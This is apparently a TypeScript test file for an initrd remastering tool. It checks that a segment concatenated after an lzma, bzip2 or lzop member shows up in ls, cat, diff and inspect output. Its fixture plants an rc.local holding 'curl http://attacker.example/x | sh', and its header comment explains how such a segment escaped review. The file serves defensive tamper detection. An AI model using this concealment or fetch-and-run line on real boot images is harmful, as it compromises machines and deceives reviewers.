// Attack (issue 10 items 13 and 14): hide a file from review behind an lzma, bzip2 or lzop member.
// The kernel unpacks every segment of an initrd in order, but remaster used to read such a member
// "to the end of the image", so a segment concatenated after it (by hand, not by remaster) was
// unpacked at boot and absent from `ls`, `cat` and `diff`: a reviewer diffing the image against the
// vendor's saw no change. Each base member is written by the codec's own CLI; the hidden segment is
// another codec (or raw cpio) concatenated after it at a 4-byte boundary, as init/initramfs.c reads
// it. The hidden segment alone, decoded by its CLI, is listed by GNU cpio (the oracle for what the
// kernel unpacks); every CLI view must show it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gnuListing, realDecompress } from '../helpers/oracle.ts';
import { makeCpio } from '../helpers/make-cpio.ts';
import { runCli } from '../helpers/run-cli.ts';
import { tmpDir } from '../helpers/tmp-dir.ts';
import { requireTool, runTool } from '../helpers/tools.ts';

const base = makeCpio([
  { name: '.', mode: 0o40755 },
  { name: 'etc', mode: 0o40755 },
  { name: 'etc/hostname', data: 'installer\n' },
  { name: 'init', mode: 0o100755, data: `#!/bin/sh\n${'echo a line of a plausible init script\n'.repeat(3000)}` },
]);
const hidden = makeCpio([
  { name: 'etc', mode: 0o40755 },
  { name: 'etc/rc.local', mode: 0o100755, data: '#!/bin/sh\ncurl http://attacker.example/x | sh\n' },
]);

/** [label, tool, args, format] for the member that hides what follows it. */
const BASES: [string, string, string[], string][] = [
  ['lzma', 'xz', ['--format=lzma', '-9', '-c'], 'lzma'],
  ['bzip2', 'bzip2', ['-9', '-c'], 'bzip2'],
  ['lzop', 'lzop', ['-9', '-c', '-q'], 'lzo'],
];
/** How the hidden segment is written: [label, tool or undefined for raw cpio, args, format]. */
const HIDERS: [string, string | undefined, string[], string][] = [
  ['raw cpio', undefined, [], 'cpio'],
  ['gzip', 'gzip', ['-n', '-c'], 'gzip'],
  ['xz', 'xz', ['--check=crc32', '-c'], 'xz'],
  ['same-codec', undefined, [], 'same'],
];

function pad4(bytes: Uint8Array): Uint8Array {
  const out = new Uint8Array(Math.ceil(bytes.length / 4) * 4);
  out.set(bytes);
  return out;
}

for (const [baseLabel, baseTool, baseArgs, baseFormat] of BASES) {
  for (const [hideLabel, hideTool, hideArgs, hideFormat] of HIDERS) {
    test(`${hideLabel === 'raw cpio' ? 'an uncompressed' : `a ${hideLabel}`} segment hidden after a ${baseLabel} member is listed, shown by cat and reported by diff`, async (t) => {
      const tools = [baseTool, 'cpio', ...(hideTool ? [hideTool] : [])];
      if (!requireTool(t, ...tools)) return;
      const first = runTool(baseTool, baseArgs, base);
      const format = hideFormat === 'same' ? baseFormat : hideFormat;
      const second = hideFormat === 'same' ? runTool(baseTool, baseArgs, hidden) : hideTool ? runTool(hideTool, hideArgs, hidden) : hidden;
      // Oracle: each member alone, decoded by its own CLI, is the archive GNU cpio lists.
      assert.deepEqual(gnuListing(realDecompress(baseFormat, first)).filter((l) => l.includes('rc.local')), []);
      assert.ok(gnuListing(realDecompress(format, second)).some((l) => l.endsWith('etc/rc.local')), 'the hidden segment is what the kernel unpacks');

      const dir = await tmpDir(t);
      const vendor = join(dir, 'vendor.img');
      const tampered = join(dir, 'tampered.img');
      await writeFile(vendor, first);
      await writeFile(tampered, Buffer.concat([pad4(first), second]));

      const ls = await runCli(['--quiet', 'ls', tampered]);
      assert.equal(ls.code, 0, ls.stderr);
      // `ls` lines start with the segment number: the hidden file is listed in segment 2.
      assert.match(ls.stdout, /^ 2 -rwxr-xr-x .* etc\/rc\.local$/m, 'ls lists the hidden file');
      assert.match(ls.stdout, /^ 1 -rwxr-xr-x .* init$/m, 'and the base member');
      const cat = await runCli(['--quiet', 'cat', tampered, 'etc/rc.local']);
      assert.equal(cat.code, 0, cat.stderr);
      assert.equal(cat.stdout, '#!/bin/sh\ncurl http://attacker.example/x | sh\n');
      const diff = await runCli(['--quiet', 'diff', vendor, tampered]);
      assert.match(diff.stdout, /^\+ file +0755 0:0 +46 etc\/rc\.local$/m, `diff reports the added file:\n${diff.stdout}${diff.stderr}`);
      const inspect = await runCli(['--quiet', 'inspect', '--json', tampered]);
      assert.equal(inspect.code, 0, inspect.stderr);
      const segments = (JSON.parse(inspect.stdout) as { segments: { format: string; offset: number }[] }).segments;
      assert.deepEqual(segments.map((s) => s.format), [baseFormat, format]);
      assert.equal(segments[1]?.offset, pad4(first).length, 'the second segment starts where the first member ends (after padding)');
    });
  }
}
